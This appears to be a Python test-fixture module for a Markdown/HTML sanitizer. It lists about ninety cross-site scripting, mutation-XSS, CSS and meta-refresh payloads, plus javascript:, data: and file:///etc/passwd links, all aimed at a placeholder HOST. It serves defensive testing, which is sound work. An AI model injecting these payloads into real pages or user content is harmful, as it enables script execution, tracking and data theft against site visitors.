"""Posts that try to run something, to fetch something from elsewhere, or to lead the page away.

`HOST` stands for the server that must see nothing, `NAME` for the post's own
path there. A post that runs marks the page: `RUN` is the code for it.
"""

from __future__ import annotations

from dataclasses import dataclass

_RUN = "document.documentElement.dataset.ran+='NAME,'"
_URL = "http://HOST/NAME"


@dataclass(frozen=True, slots=True)
class Hostile:
    """`is_alone` where it would disturb the others on one page."""

    name: str
    text: str
    is_alone: bool = False

    def at(self, host: str) -> str:
        text = self.text.replace("RUN", _RUN).replace("URL", _URL)
        return text.replace("HOST", host).replace("NAME", self.name)


_TOGETHER = {
    "script": "<script>RUN</script>",
    "script-src": "<script src='URL'></script>",
    "script-module": "<script type=module>import 'URL';RUN</script>",
    "script-case": "<ScRiPt >RUN</sCrIpT >",
    "script-in-svg": "<svg><script>RUN</script></svg>",
    "script-in-math": "<math><mtext><script>RUN</script></mtext></math>",
    "image": "<img src='URL'>",
    "image-markdown": "![x](URL)",
    "image-reference": "![x][ref-NAME]\n\n[ref-NAME]: URL",
    "image-no-scheme": "<img src='//HOST/NAME'>",
    "image-markdown-no-scheme": "![x](//HOST/NAME)",
    "image-backslash": "<img src='\\\\HOST\\NAME'>",
    "image-space": "<img src=' \thttp://HOST/NAME'>",
    "image-line-break": "<img src='ht\ntp://HOST/NAME'>",
    "image-upper": "<img src='HTTP://HOST/NAME'>",
    "image-entity": "<img src='http&#58;//HOST/NAME'>",
    "image-error": '<img src=x onerror="RUN">',
    "image-load": "<img src='data:image/gif;base64,R0lGODlhAQABAAAAACw=' onload=\"RUN\">",
    "image-slash": "<img/src=x/onerror=RUN>",
    "image-old-name": "<image src='URL'>",
    "image-srcset": "<img srcset='URL 1x, URL 2x'>",
    "image-lowsrc": "<img lowsrc='URL' dynsrc='URL'>",
    "picture": "<picture><source srcset='URL'><img></picture>",
    "svg-onload": '<svg onload="RUN"></svg>',
    "svg-image": "<svg><image href='URL' xlink:href='URL'/></svg>",
    "svg-use": "<svg><use href='URL#a'/></svg>",
    "svg-animate": "<svg><a><animate attributeName=href values='javascript:RUN'/></a></svg>",
    "svg-data": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'>"
    "<image href='URL'/><script>RUN</script></svg>\">",
    "svg-style": "<svg><style>@import 'URL';</style></svg>",
    "math-link": "<math href='javascript:RUN'><mi xlink:href='URL'>x</mi></math>",
    "frame": "<iframe src='URL'></iframe>",
    "frame-script": '<iframe src="javascript:parent.document.documentElement'
    ".dataset.ran+='NAME,'\"></iframe>",
    "frame-inner": "<iframe srcdoc=\"<img src='URL'><script>parent.RUN</script>\"></iframe>",
    "frame-data": "<iframe src=\"data:text/html,<img src='URL'>\"></iframe>",
    "fenced-frame": "<fencedframe src='URL'></fencedframe><portal src='URL'></portal>",
    "object": "<object data='URL'></object>",
    "embed": "<embed src='URL'>",
    "applet": "<applet code='URL' archive='URL'></applet>",
    "audio": "<audio src='URL' autoplay></audio>",
    "video": "<video src='URL' autoplay></video>",
    "video-poster": "<video poster='URL'></video>",
    "video-error": '<video><source onerror="RUN" src=x></video>',
    "track": "<video src='data:video/mp4,'><track default src='URL'></video>",
    "style-import": "<style>@import 'URL';</style>",
    "style-url": "<style>.NAME{background:url(URL)}</style><p class=NAME>x</p>",
    "style-font": "<style>@font-face{font-family:f;src:url(URL)}p{font-family:f}</style>",
    "style-attribute": "<p style=\"background:url('URL')\">x</p>",
    "style-list": '<ul style="list-style-image:url(URL)"><li>x</ul>',
    "style-cursor": '<p style="cursor:url(URL),auto;content:url(URL)">x</p>',
    "style-set": "<p style=\"background:image-set('URL' 1x)\">x</p>",
    "link-style": "<link rel=stylesheet href='URL'>",
    "link-icon": "<link rel='shortcut icon' href='URL'>",
    "link-preload": "<link rel=preload as=image href='URL'>",
    "link-prefetch": "<link rel=prefetch href='URL'>",
    "link-module": "<link rel=modulepreload href='URL'>",
    "link-manifest": "<link rel=manifest href='URL'>",
    "link-prerender": "<link rel=prerender href='URL'>",
    "link-import": "<link rel=import href='URL'>",
    "table-background": "<table background='URL'><td background='URL'>x</table>",
    "body-background": "<body background='URL' onload=\"RUN\">",
    "body-resize": '<body onpageshow="RUN" onfocus="RUN">',
    "input-image": "<input type=image src='URL'>",
    "input-focus": '<input autofocus onfocus="RUN">',
    "select-focus": '<select autofocus onfocus="RUN"><option>x</select>',
    "details-toggle": '<details open ontoggle="RUN"><summary>x</summary></details>',
    "marquee": '<marquee onstart="RUN">x</marquee>',
    "animation": "<style>@keyframes k{}</style>"
    "<p style='animation:k 1ms' onanimationstart=\"RUN\">x",
    "attribute-break": '[x](http://a"onmouseover="RUN"x)',
    "title-break": "![x](x '\" onerror=\"RUN')",
    "fence-break": '```x"><script>RUN</script>\n<script>RUN</script>\n```',
    "comment-break": "<!-- --!><img src=x onerror=RUN> -->",
    "noscript-break": '<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>',
    "template-break": "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=x onerror=RUN&gt;">',
    "namespace-break": '<svg></p><style><a id="</style><img src=x onerror=RUN>">',
    "processing": "<?xml-stylesheet href='URL'?>",
    "worker": "<script>new Worker('URL');RUN</script>",
    "fetch": "<script>fetch('URL');new Image().src='URL';navigator.sendBeacon('URL')</script>",
    "socket": "<script>new WebSocket('ws://HOST/NAME')</script>",
    "file": "<img src='file:///etc/hostname'><iframe src='file:///etc/passwd'></iframe>",
    "clobber": "<form id=page name=page><input name=children id=getElementById></form>"
    "<img name=getElementById><a id=documentElement></a>",
}
_ALONE = {
    "refresh": "<meta http-equiv=refresh content='0;url=URL'>",
    "refresh-script": "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
    "refresh-data": "<meta http-equiv=refresh content=\"0;url=data:text/html,<img src='URL'>\">",
    "policy": "<meta http-equiv=Content-Security-Policy content='default-src *'>"
    "<script>RUN</script><img src='URL'>",
    "base": "<base href='http://HOST/NAME/'><img src='x.png'>\n\n![x](y.png)",
    "preconnect": "<link rel=preconnect href='http://HOST/'>",
    "dns-prefetch": "<link rel=dns-prefetch href='//HOST/'>",
    "form": "<form action='URL' id=f><input name=a></form><script>f.submit()</script>",
    "location": "<script>location='URL'</script>",
    "window": "<script>open('URL')</script>",
    "plaintext": "<plaintext><script>RUN</script>",
    "frameset": "</main></body><frameset><frame src='URL'></frameset>",
    "unclosed": "<script>RUN//",
    "main-break": "</div></main><script>RUN</script><img src='URL'>",
}
HOSTILE = tuple(
    [Hostile(name, text) for name, text in _TOGETHER.items()]
    + [Hostile(name, text, is_alone=True) for name, text in _ALONE.items()]
)
CLICKED = (
    "[x](javascript:document.documentElement.dataset.ran='link')",
    "<a href='javascript:document.documentElement.dataset.ran=1'>x</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<a href=' java\nscript:alert(1)'>x</a>",
    "[x](vbscript:x)",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "[x](file:///etc/passwd)",
    "<a href='/other' target=_blank ping='http://HOST/ping' download>x</a>",
    "<a href='blob:http://x/y'>x</a>",
    "<a href='post://site/../x'>x</a>",
)
